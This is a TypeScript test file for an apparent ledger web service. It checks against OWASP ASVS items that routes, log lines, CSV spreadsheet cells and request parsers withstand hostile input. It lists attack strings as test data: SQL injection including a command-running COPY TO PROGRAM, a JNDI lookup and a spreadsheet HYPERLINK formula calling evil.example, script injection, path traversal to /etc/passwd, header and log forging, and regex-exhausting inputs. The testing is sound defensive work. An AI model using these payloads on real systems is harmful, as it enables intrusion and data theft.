/** Texts that mean something to a spreadsheet, a terminal, a log or an expression. */
import { EmailAddress } from "@florin/domain/identity"
import { memoryBank } from "@florin/domain/testing"
import { Layer, Logger, Schema } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { cell } from "../../src/ledger/statement/statement-csv.ts"
import { clientAddress } from "../../src/request/client-address.ts"
import { readJson } from "../../src/request/read-json.ts"
import { bearer, postJson } from "../raw-request.ts"
import { makeService, type Service } from "../service.ts"
import { signedInAs, type Tokens } from "./signed-in-as.ts"
import { parametersOf, steps, take } from "./walk.ts"

const lines: string[] = []
let service: Service
let tokens: Tokens
beforeAll(async () => {
  const log = Logger.layer([Logger.map(Logger.formatJson, (line) => lines.push(line))])
  service = await makeService(Layer.merge(memoryBank(), log))
  tokens = await signedInAs(service)
})
afterAll(() => service.close())

const hostile: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE entry; --",
  "1); SELECT pg_sleep(5); --",
  "\\'; COPY entry TO PROGRAM 'id'; --",
  "$" + "{jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "..%2f..%2f",
  "%00",
  "a\r\nSet-Cookie: admin=1",
  "a\nINFO request forged",
  "\u001b[2J\u001b[31m",
  "\u202Etxt.exe",
  "\u2028",
  "\uFEFF",
  "%s%n%x",
  "A".repeat(5_000)
]

/** Parameters that take words as somebody wrote them, to look for. */
const freeWords = /\?(?:action|email|name|object|principal|text)=/u

describe("ASVS 1.2.4, 2.2.1 · A hostile text", () => {
  it("as any parameter of any route is refused, or is nothing's name; quickly, and never a fault", async () => {
    let tried = 0
    for (const { name, path, route } of steps)
      for (const text of hostile) {
        const value = encodeURIComponent(text)
        const asked = [
          ...parametersOf(route, "query").map((each) => `${path}?${each.name}=${value}`),
          ...parametersOf(route, "path").map(() => path.replace(/[a-z]+_0{26}/u, value))
        ]
        for (const target of asked) {
          const begun = performance.now()
          const headers = bearer(tokens.whoMay(route))
          const { status } = await service.ask(target, { method: route.method, headers })
          const isRefused = status === 200 ? freeWords.test(target) : true
          expect([name, text, status < 500 && isRefused]).toEqual([name, text, true])
          expect(performance.now() - begun).toBeLessThan(1_000)
          tried++
        }
      }
    expect(tried).toBeGreaterThan(500)
  }, 60_000)

  it("as any field of any body is refused or kept as it is; and never a fault", async () => {
    for (const step of steps)
      for (const [field, right] of Object.entries(step.body ?? {}))
        for (const text of hostile) {
          if (typeof right !== "string") continue
          const headers = bearer(tokens.whoMay(step.route))
          const answer = await take(service, step, headers, { ...step.body, [field]: text })
          expect([step.name, field, text, answer.status < 500]).toEqual([
            step.name,
            field,
            text,
            true
          ])
        }
  }, 60_000)

  it("ASVS 16.4.1 · of a log line makes neither another line nor colours, wherever it stood", async () => {
    await postJson(service, "/api/auth/register", {
      email: "mallory@mail.example",
      name: "Mallory\u001b[31m",
      password: "a calm walk along the canal"
    })
    await service.ask("/api/%1b%5b31m%0d%0aINFO%20forged", {
      headers: { "user-agent": "\u001b[2J", "x-request-id": "id\tforged" }
    })
    await expect.poll(() => lines.some((line) => line.includes("forged"))).toBe(true)
    for (const line of lines) {
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029]/u)
      expect(() => JSON.parse(line)).not.toThrow()
    }
  })
})

describe("ASVS 1.2.10 · A cell of a file for spreadsheets", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ["a,b", '"a,b"'],
    ['say "so"', '"say ""so"""'],
    ["a\r\n=1", '"a\r\n=1"'],
    ["Rent", "Rent"]
  ])("of %j is written as %j: a text, and one cell", (text, written) => {
    expect(cell(text)).toBe(written)
  })
})

/** The longest text that a request can bring to each of these. */
const quickOn = (work: () => unknown): number => {
  const begun = performance.now()
  work()
  return performance.now() - begun
}

describe("ASVS 1.3.12 · An expression that reads a request", () => {
  const address = clientAddress({ trusted: ["127.0.0.1"], header: "forwarded" })
  const forwarded = (value: string) => () =>
    address("127.0.0.1", (name) => (name === "forwarded" ? value : undefined))
  const email = (text: string) => () => Schema.is(EmailAddress)(text)

  it.each<readonly [string, () => unknown]>([
    ["Forwarded: blanks", forwarded(`;${" ".repeat(16_000)}for`)],
    ["Forwarded: semicolons", forwarded("; ".repeat(8_000))],
    ["Forwarded: open quotes", forwarded(';for="'.repeat(2_600))],
    ["Forwarded: commas", forwarded(",".repeat(16_000))],
    ["e-mail: dots", email(`a@${"a.".repeat(2_000)}`)],
    ["e-mail: one label", email(`a@${"a".repeat(4_000)}`)],
    ["e-mail: at signs", email("@".repeat(4_000))],
    ["e-mail: blanks", email(`${" ".repeat(4_000)}@a.b`)],
    [
      "a media type of blanks",
      () => readJson(new Uint8Array(2), `application/json${" ".repeat(16_000)}x`)
    ]
  ])("is done with %s in no time", (_, work) => {
    work()
    expect(Math.min(quickOn(work), quickOn(work), quickOn(work))).toBeLessThan(50)
  })
})
